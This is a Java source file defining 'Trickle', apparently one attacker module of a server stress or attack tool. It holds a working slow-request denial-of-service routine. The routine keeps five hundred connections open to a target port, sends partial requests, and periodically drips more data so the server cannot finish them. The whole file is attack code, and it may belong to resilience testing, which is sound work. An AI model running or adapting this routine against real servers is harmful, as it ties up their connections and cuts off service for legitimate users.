package io.threatrelay.siege;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * Requests that never end: five hundred clients, each of which sends a little once a second.
 *
 * @param beginning of each request
 * @param more what follows, again and again
 */
record Trickle(String beginning, String more) implements Attacker {

  private static final int CLIENTS = 500;

  /** Between two clients, so that they do not all send at once. */
  private static final Duration STEP = Duration.ofMillis(2);

  @Override
  public void attack(Target target, long end) {
    List<Connection> connections = new ArrayList<>();
    while (Attacker.goesOn(end)) {
      for (int i = connections.size(); i < CLIENTS; i++) {
        Connection.open(target.port(), SOURCE, 0)
            .ifPresent(opened -> connections.add(opened.send(beginning)));
        Attacker.pause(STEP);
      }
      connections.removeIf(this::isOverAfterMore);
      Attacker.pause(STEP);
    }
    connections.forEach(Connection::close);
  }

  private boolean isOverAfterMore(Connection connection) {
    Attacker.pause(STEP);
    boolean over = connection.send(more).isOver();
    if (over) {
      connection.close();
    }
    return over;
  }
}
